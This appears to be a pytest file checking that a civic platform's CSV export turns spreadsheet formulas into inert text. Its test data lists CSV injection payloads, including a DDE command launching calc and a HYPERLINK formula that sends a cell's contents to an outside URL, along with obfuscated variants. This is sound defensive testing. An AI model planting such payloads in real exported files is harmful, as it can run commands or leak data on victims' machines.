"""A table that was exported runs no formula, whatever somebody wrote into it and however it is opened."""

import ast
import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

import cdv_civic
from cdv_civic.core.csv_export import csv_answer, harmless

FORMULAS = (
    "=1+1",
    "+33612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    '=HYPERLINK("https://example.org?"&A1)',
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    " " * 150 + "=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_becomes_text(text: str) -> None:
    told = str(harmless(text))
    assert told.startswith("'")
    assert told.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("cell", ["Orly", "a=b", "L’île", "12 %", "« -3 »", "", 12, -12, 1.5])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert harmless(cell) == cell


_TEXTS = st.text(alphabet="=+-@|;,\"'\t\r\n a1\u200b", max_size=30)


@given(st.lists(_TEXTS, min_size=1, max_size=3), st.sampled_from([";", ",", "\t"]))
def test_no_separator_of_another_setting_brings_a_formula_out(texts: list[str], separator: str) -> None:
    """Opened with a comma or a tab between cells, what begins a cell is never a formula, in any column."""
    with Flask(__name__).test_request_context():
        content = csv_answer("t.csv", ["Nom"], [texts]).get_data(as_text=True).lstrip("\ufeff")
    for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
        for cell in row:
            assert not cell.strip(" \t\r\n\u200b").startswith(("=", "+", "-", "@", "|"))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("Rue des Lilas,=1+1", "Rue des Lilas,'=1+1"),
        ('a, "=1+1', "a,' \"=1+1"),
        ("a\n=1+1", "a\n'=1+1"),
        ("12,5 % ; 3-4", "12,5 % ; 3-4"),
        ("mardi, jeudi", "mardi, jeudi"),
    ],
)
def test_each_part_of_a_text_that_commas_cut_is_looked_at(text: str, written: str) -> None:
    assert harmless(text) == written


def test_one_module_writes_tables() -> None:
    """Another one would have to think of all this again.

    Files of Pabulib are read by programs that count, which take names and codes as they are, and no spreadsheet opens
    a file of that name.
    """
    package = Path(cdv_civic.__file__).parent
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
    }
    assert writers == {"core/csv_export.py", "fund/tally/pabulib/writing.py"}
